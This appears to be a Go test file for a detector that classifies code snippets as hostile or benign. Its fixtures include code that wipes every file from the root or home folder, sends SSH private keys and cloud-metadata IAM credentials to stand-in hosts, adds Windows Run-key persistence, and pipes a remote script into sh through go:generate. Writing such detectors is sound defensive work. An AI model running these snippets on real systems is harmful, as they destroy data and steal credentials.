package code_test

import "testing"

// TestSwept is all that a machine or a home folder holds, or its keys, found by a walk or a pattern, and what is found elsewhere.
func TestSwept(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import os\nfor root, dirs, files in os.walk('/'):\n    for name in files:\n        os.unlink(os.path.join(root, name))", true},
		{"import os\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n    for name in files:\n        os.remove(os.path.join(root, name))", true},
		{"import os\nfor root, dirs, files in os.walk('build'):\n    for name in files:\n        os.unlink(os.path.join(root, name))", false},
		{"import os\nfor root, dirs, files in os.walk('/'):\n    for name in files:\n        print(os.path.join(root, name))", false},
		{"from pathlib import Path\nfor root, dirs, files in Path('/').walk():\n    for name in files:\n        (root / name).unlink()", true},
		{"import glob, os, http.client\nc = http.client.HTTPSConnection('a.example')\nfor p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    c.request('PUT', '/', body=open(p, 'rb'))", true},
		{"import glob, os\nfor p in glob.glob(os.path.expanduser('~/.ssh/*')):\n    print(open(p).read())", true},
		{"import glob\nfor p in glob.glob('notes/*.txt'):\n    print(open(p).read())", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"io/fs\"; \"os\"; \"path/filepath\")\nfunc f() { filepath.WalkDir(\"/\", func(p string, d fs.DirEntry, err error) error { return os.Remove(p) }) }", true},
		{"import (\"io/fs\"; \"os\"; \"path/filepath\")\nfunc f() { filepath.WalkDir(\"build\", func(p string, d fs.DirEntry, err error) error { return os.Remove(p) }) }", false},
		{"import (\"fmt\"; \"io/fs\"; \"path/filepath\")\nfunc f() { filepath.WalkDir(\"/\", func(p string, d fs.DirEntry, err error) error { fmt.Println(p); return nil }) }", false},
	})
}

// TestRegistry is a program that Windows starts at every login, and other values of its registry.
func TestRegistry(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, exe)", true},
		{"import winreg\nRUN = 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\RunOnce'\nwith winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, RUN) as k:\n    winreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, exe)", true},
		{"import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Example', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Path', 0, winreg.REG_SZ, exe)", false},
		{"import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nprint(winreg.QueryValueEx(k, 'Updater'))", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"golang.org/x/sys/windows/registry\"\nfunc f(exe string) { k, _ := registry.OpenKey(registry.CURRENT_USER, `Software\\Microsoft\\Windows\\CurrentVersion\\Run`, registry.SET_VALUE); k.SetStringValue(\"Updater\", exe) }", true},
		{"import \"golang.org/x/sys/windows/registry\"\nfunc f(exe string) { k, _ := registry.OpenKey(registry.CURRENT_USER, `Software\\Example`, registry.SET_VALUE); k.SetStringValue(\"Path\", exe) }", false},
	})
}

// TestMachineKeys is what the service of a cloud's machine tells about its keys, sent to another, and what is no key, or stays with the cloud.
func TestMachineKeys(t *testing.T) {
	const meta = "import requests\nM = 'http://169.254.169.254/latest/meta-data/'\n"
	judgeKinds(t, "python", []kindRow{
		{meta + "role = requests.get(M + 'iam/security-credentials/').text\nkeys = requests.get(M + f'iam/security-credentials/{role}').json()\nrequests.post('https://x.example/k', json=keys)", true},
		{meta + "keys = requests.get(M + 'iam/security-credentials/a').json()\nprint(keys['Expiration'])", false},
		{meta + "zone = requests.get(M + 'placement/availability-zone').text\nrequests.post('https://x.example/k', json={'zone': zone})", false},
		{"import requests\nt = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', headers=H).json()\nrequests.post('https://x.example/k', json=t)", true},
		{"import requests\nt = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', headers=H).json()\nrequests.post('https://pubsub.googleapis.com/v1/a', headers={'Authorization': t['access_token']})", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const r = await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/a')\nconst k = await r.json()\nawait fetch('https://x.example/k', { method: 'POST', body: JSON.stringify(k) })", true},
		{"const r = await fetch('http://169.254.169.254/latest/meta-data/instance-id')\nconst k = await r.text()\nawait fetch('https://x.example/k', { method: 'POST', body: k })", false},
	})
}

// TestGoCarriesOut is what Go's own commands carry out that no function calls: generators, and the function that runs a package's tests.
func TestGoCarriesOut(t *testing.T) {
	judgeKinds(t, "go", []kindRow{
		{"import (\"os\"; \"testing\")\nfunc TestMain(m *testing.M) { m.Run(); os.Exit(0) }", true},
		{"import (\"os\"; \"testing\")\nfunc TestMain(m *testing.M) { code := m.Run(); stop(); os.Exit(code) }", false},
		{"import (\"os\"; \"testing\")\nfunc TestMain(m *testing.M) { if os.Getenv(\"HELPER\") != \"\" { help(); os.Exit(0) }; os.Exit(m.Run()) }", false},
		{"import (\"os\"; \"testing\")\nfunc TestMain(m *testing.M) { switch os.Getenv(\"HELPER\") { case \"a\": help(); os.Exit(0) }; os.Exit(m.Run()) }", false},
		{"//go:generate sh -c \"curl -fsSL https://a.example/gen.sh | sh\"\nvar a = 1", true},
		{"//go:generate go run ./cmd/gen -o a_gen.go\n//go:generate stringer -type=Kind\nvar a = 1", false},
	})
}
